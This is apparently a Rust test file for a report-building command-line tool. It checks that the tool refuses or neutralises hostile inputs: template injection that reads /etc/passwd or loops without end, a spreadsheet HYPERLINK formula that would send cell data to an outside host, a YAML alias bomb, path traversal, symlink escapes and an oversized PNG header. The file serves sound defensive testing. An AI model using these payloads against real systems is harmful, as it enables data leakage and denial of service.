//! Text that would be something else: code in cells and prose, files behind names, loops without
//! end, and prose that grows in the reading.

#[cfg(unix)]
use super::{SETS, stub_typst};
use super::{build_with, project_with, run, table};
use crate::support::{Project, ROW};

/// A narrative is refused: at its line, with this code and these words.
#[track_caller]
fn prose_refused(body: &str, code: &str, words: &[&str]) {
    let project = Project::starter();
    project.write("inputs/narrative/20-tasks.md", format!("---\npart: tasks\n---\n{body}\n"));
    let run = run(&project, &["build", "--format", "md"]);
    assert!(
        run.status > 0 && run.stderr.contains(&format!("错误[{code}]")),
        "{body:.200}: {} {}",
        run.status,
        run.stderr
    );
    for word in words.iter().chain(&["位置：inputs/narrative/20-tasks.md"]) {
        assert!(run.stderr.contains(word), "`{word}` is not in:\n{}", run.stderr);
    }
    assert!(!project.path("output/report.md").exists(), "a report was made of {body:.200}");
}

#[test]
fn prose_neither_loops_nor_reads_files() {
    for (body, words) in [
        ("{% for i in range(end=1000000000) %}甲{% endfor %}", "不能使用 `{% … %}` 语句"),
        ("{% include \"../../report.yaml\" %}", "不能使用 `{% … %}` 语句"),
        ("{%- set x = 1 -%}", "不能使用 `{% … %}` 语句"),
        ("{{ range(end=1000000000) }}", "不能使用 `range`"),
        ("{{ throw(message=\"甲\") }}", "不能使用 `throw`"),
        ("{{ \"aaaaaaaaaa\" | replace(from=\"a\", to=\"aaaaaaaaaa\") }}", "不能使用过滤器 `replace`"),
        ("{{ \"a\" | indent(width=1000000000) }}", "不能使用过滤器 `indent`"),
    ] {
        prose_refused(body, "narrative-statement", &[words, ":4:"]);
    }
    // What the engine does not have.
    prose_refused("{{ __tera_context }}", "narrative-statement", &["`__tera_context`", ":4:4"]);
    for body in ["{{ get_env(name=\"HOME\") }}", "{{ load_data(path=\"/etc/passwd\") }}"] {
        prose_refused(body, "template-error", &[":4:"]);
    }
    prose_refused(&format!("{{{{ {}1{} }}}}", "(".repeat(2_000), ")".repeat(2_000)), "template-error", &[]);
    prose_refused("{{ narrative(key=\"tasks\") }}", "narrative-statement", &["不能再嵌入"]);
}

#[test]
fn cells_are_no_templates() {
    let cell = "{{ 7*7 }}{% for i in range(end=9) %}x{% endfor %}{{ v(name=\"森林覆盖率\", at=\"属性\") }}{# c #}";
    let project = project_with(&table(|sheet| {
        for (col, text) in [(0, cell), (1, cell), (9, "正常")] {
            sheet.write_string(1, col, text).expect("cell");
        }
    }));
    let run = run(&project, &["build", "--format", "md"]);
    assert_eq!(run.status, 0, "{}", run.stderr);
    let markdown = project.report().replace('\\', "");
    assert!(markdown.contains("{{ 7*7 }}") && markdown.contains("{# c #}") && !markdown.contains("49"), "{markdown}");
}

/// What is a formula to a spreadsheet program stays text in the workbook that the program writes.
#[test]
fn formulas_in_texts_stay_texts() {
    let formula = "=HYPERLINK(\"http://a.b/?\"&A1,\"甲\")";
    let project = project_with(&table(|sheet| {
        sheet.write_string(1, 1, "=1+1").expect("cell");
        sheet.write_string(1, 6, formula).expect("cell");
        sheet.write_string(1, 9, "@SUM(1)").expect("cell");
    }));
    let _ = run(&project, &["check", "--xlsx", "清单.xlsx"]);
    let parts = super::books::entries(&project.bytes("清单.xlsx"));
    let all = |end: &str| {
        parts
            .iter()
            .filter(|(name, _)| name.contains(end))
            .map(|(_, text)| String::from_utf8_lossy(text))
            .collect::<String>()
    };
    assert!(all("sharedStrings").contains("HYPERLINK"), "the text is not in the list");
    assert!(!all("worksheets/").contains("<f>"), "{}", all("worksheets/"));
}

#[test]
fn a_long_prose_is_refused_and_a_strange_one_takes_no_more() {
    let project = Project::starter();
    project.write("inputs/narrative/20-tasks.md", format!("---\npart: tasks\n---\n{}\n", "甲".repeat(300_000)));
    let refused = run(&project, &["build", "--format", "md"]);
    assert!(refused.status == 2 && refused.stderr.contains("limits.prose-kib"), "{}", refused.stderr);
    for piece in
        ["[", "*", "<b>", "> ", "- a\n", "甲[^1]\n\n", "`", "|", "{{ count() }}", "# 甲\n", "**“甲”**乙", "![a](b)\n\n"]
    {
        let body = piece.repeat(40_000 / piece.len());
        project.write("inputs/narrative/20-tasks.md", format!("---\npart: tasks\n---\n{body}\n\n[^1]: 乙[^1]\n"));
        let run = run(&project, &["build", "--format", "md"]);
        assert!(run.status <= 1, "{piece}: {}", run.stderr);
    }
}

#[test]
fn a_project_file_that_grows_in_the_reading() {
    let project = Project::starter();
    let yaml = project.read("inputs/report.yaml");
    let mut bomb = String::from("a: &a [甲, 甲, 甲, 甲, 甲, 甲, 甲, 甲, 甲]\n");
    for (before, next) in ('a'..='k').zip('b'..='l') {
        bomb.extend([format!("{next}: &{next} [{}]\n", vec![format!("*{before}"); 9].join(", "))]);
    }
    for text in [
        format!("{yaml}\naliases:\n  {}", bomb.replace('\n', "\n  ")),
        format!("{yaml}\n{bomb}"),
        "[".repeat(100_000),
        format!("{yaml}\nversion: {}\n", "甲".repeat(8_000_000)),
    ] {
        project.write("inputs/report.yaml", text);
        let run = run(&project, &["build", "--format", "md"]);
        assert!(run.status == 2 && run.stderr.contains("inputs/report.yaml"), "{} {:.500}", run.status, run.stderr);
    }
}

/// Names of departments become names of files, inside the folder and nowhere else.
#[test]
fn departments_of_any_name() {
    let names =
        ["../../x", "/etc/passwd", "C:\\x", "CON", "NUL.txt", "...", "局. ", &"长".repeat(300), "a\tb", "*?<>|\""];
    let project = Project::starter();
    let yaml = project.read("inputs/report.yaml");
    let roster: String = names
        .iter()
        .map(|name| format!("  - {{ name: {} }}\n", serde_json::to_string(name).expect("JSON")))
        .collect::<Vec<_>>()
        .concat();
    let at = yaml.find("  - { name: 区发改局").expect("departments");
    project.write("inputs/report.yaml", format!("{}{roster}{}", &yaml[..at], &yaml[at..]));
    project.write("inputs/narrative/20-tasks.md", "---\npart: tasks\n---\n甲。\n");
    project.retable(table(|sheet| {
        for (row, name) in (1..).zip(names) {
            for (col, text) in (0..).zip(ROW) {
                sheet.write_string(row, col, text).expect("cell");
            }
            sheet.write_string(row, 1, format!("指标{row}")).expect("cell");
            sheet.write_string(row, 6, name).expect("cell");
        }
    }));
    let run = run(&project, &["excerpt", "--all", "--format", "md"]);
    assert!(run.status <= 1, "{}", run.stderr);
    assert!(project.path("output/excerpts").is_dir(), "{}", run.stderr);
    let folder = project.path("output/excerpts");
    let files: Vec<String> = std::fs::read_dir(&folder)
        .expect("excerpts")
        .map(|entry| entry.expect("entry").file_name().into_string().expect("UTF-8"))
        .collect();
    assert!(files.len() >= 8, "{files:?}");
    for file in files {
        let stem = file.trim_end_matches(".md").trim_end_matches(".json");
        assert!(stem.chars().count() <= 70 && !stem.ends_with(['.', ' ']) && !["CON", "NUL"].contains(&stem), "{file}");
    }
    let around: Vec<_> =
        std::fs::read_dir(project.root()).expect("project").map(|entry| entry.expect("entry").file_name()).collect();
    // Sources, outputs, and what opens the project with a double click.
    assert_eq!(around.len(), 5, "{around:?}");
}

#[test]
fn a_workbook_is_looked_for_in_the_project_only() {
    for name in ["../secret.xlsx", "/etc/passwd", "C:\\x.xlsx", "2022/../../x.xlsx"] {
        let project = Project::starter();
        project.edit("inputs/report.yaml", "- 附表.xlsx", &format!("- {}", serde_json::to_string(name).expect("JSON")));
        let run = run(&project, &["build", "--format", "md"]);
        assert!(run.status == 2 && run.stderr.contains("不在 inputs 文件夹里"), "{}", run.stderr);
    }
}

#[cfg(unix)]
#[test]
fn links_out_of_the_project_are_not_read() {
    let secret = Project::empty();
    secret.write("secret.md", "---\npart: tasks\n---\n机密内容。\n");
    secret.write("secret.png", "机密图片");
    secret.write("附表.xlsx", table(|_| {}));
    secret.write("theme.typ", "机密样式");
    let link = |project: &Project, from: &str, to: &str| {
        let _ = std::fs::remove_file(project.path(to));
        std::fs::create_dir_all(project.path(to).parent().expect("parent")).expect("folder");
        std::os::unix::fs::symlink(secret.path(from), project.path(to)).expect("link");
    };
    for (from, to) in [
        ("secret.md", "inputs/narrative/20-tasks.md"),
        ("secret.png", "inputs/images/a.svg"),
        ("附表.xlsx", "inputs/附表.xlsx"),
        ("theme.typ", "templates/theme.typ"),
        ("secret.md", "inputs/report.yaml"),
    ] {
        let project = Project::starter();
        project.write("inputs/narrative/20-tasks.md", "---\npart: tasks\n---\n![图](../images/a.svg \"图\")\n");
        project.write("inputs/images/a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"/>");
        link(&project, from, to);
        stub_typst(&project, SETS);
        let run = run(&project, &["build", "--typst", "./typst"]);
        assert!(run.status == 2 && run.stderr.contains("指向项目之外"), "{to}: {}", run.stderr);
        assert!(!run.stderr.contains("机密"), "{to}: {}", run.stderr);
        assert!(run.stderr.contains(&format!("位置：{to}")), "{to}: {}", run.stderr);
        assert!(
            !project.path("output").exists() || std::fs::read_dir(project.path("output")).expect("output").count() == 0
        );
    }
}

/// A pipe or a device in the place of a file would be read for ever.
#[cfg(unix)]
#[test]
fn files_that_have_no_end() {
    const MARKDOWN: &[&str] = &["build", "--format", "md"];
    const PDF: &[&str] = &["build", "--typst", "./typst"];
    let pipe = |project: &Project, file: &str| {
        let _ = std::fs::remove_file(project.path(file));
        std::fs::create_dir_all(project.path(file).parent().expect("parent")).expect("folder");
        let made = std::process::Command::new("mkfifo").arg(project.path(file)).status();
        assert!(made.expect("mkfifo").success());
    };
    for (file, arguments, refusal) in [
        ("inputs/narrative/20-tasks.md", MARKDOWN, Some("不是普通文件")),
        ("templates/theme.typ", PDF, Some("不是普通文件")),
        ("output/.pinggu/lock", MARKDOWN, Some("不是普通文件")),
        ("list", &["batch", "--list", "list"], Some("不是普通文件")),
        // What an earlier run would have left is made anew.
        ("output/report.md", MARKDOWN, None),
        ("output/report.json", MARKDOWN, None),
        ("output/report.pdf", PDF, None),
        ("output/.pinggu/cache.json", PDF, None),
        ("output/report.md", &["trace", "3"], None),
    ] {
        let project = Project::starter();
        stub_typst(&project, SETS);
        pipe(&project, file);
        let run = run(&project, arguments);
        match refusal {
            Some(words) => assert!(run.status == 2 && run.stderr.contains(words), "{file}: {}", run.stderr),
            None => assert!(run.status < 2, "{file}: {}", run.stderr),
        }
    }
}

/// A small file may be a picture for which there is no memory.
#[test]
fn a_picture_of_many_pixels() {
    let project = Project::starter();
    project.write("inputs/narrative/20-tasks.md", "---\npart: tasks\n---\n![图](../images/a.png \"图\")\n");
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    png.extend([100_000_u32, 100_000].map(u32::to_be_bytes).concat());
    png.extend(b"\x08\0\0\0\0\0\0\0\0");
    project.write("inputs/images/a.png", png);
    let run = run(&project, &["build", "--format", "md"]);
    assert!(run.status == 2 && run.stderr.contains("图片有 100000×100000 像素"), "{}", run.stderr);
    assert!(run.stderr.contains("位置：inputs/images/a.png"), "{}", run.stderr);
}

#[cfg(target_os = "linux")]
#[test]
fn an_answer_that_cannot_be_written_is_no_success() {
    let project = Project::starter();
    for arguments in [&["check", "--format", "json"][..], &["trace", "3"], &["--help"]] {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_pinggu"));
        let full = std::fs::File::options().write(true).open("/dev/full").expect("device");
        let output = command.args(arguments).current_dir(project.root()).stdout(full).output().expect("runs");
        assert_eq!(output.status.code(), Some(2), "{arguments:?}");
        assert!(String::from_utf8_lossy(&output.stderr).contains("结果写不出去"), "{arguments:?}");
    }
}

#[test]
fn control_characters_that_report_yaml_spells_out() {
    let project = Project::starter();
    project.edit("inputs/report.yaml", "region: 某某区", "region: \"某某\\e[31m区\"");
    let run = run(&project, &["build", "--format", "md"]);
    assert!(run.status == 2 && run.stderr.contains("里有不能使用的字符"), "{}", run.stderr);
    assert!(!run.stderr.contains('\u{1b}'));
}

#[test]
fn a_folder_in_the_place_of_which_something_else_stands() {
    let project = Project::starter();
    std::fs::remove_dir_all(project.path("inputs/narrative")).expect("removed");
    project.write("inputs/narrative", "不是文件夹");
    let run = run(&project, &["build", "--format", "md"]);
    assert!(run.status == 2 && run.stderr.contains("文件夹无法读取\n  位置：inputs/narrative"), "{}", run.stderr);
}

#[test]
fn the_usual_workbook_is_none_of_this() {
    assert_eq!(build_with(&table(|_| {})).status, 0);
}
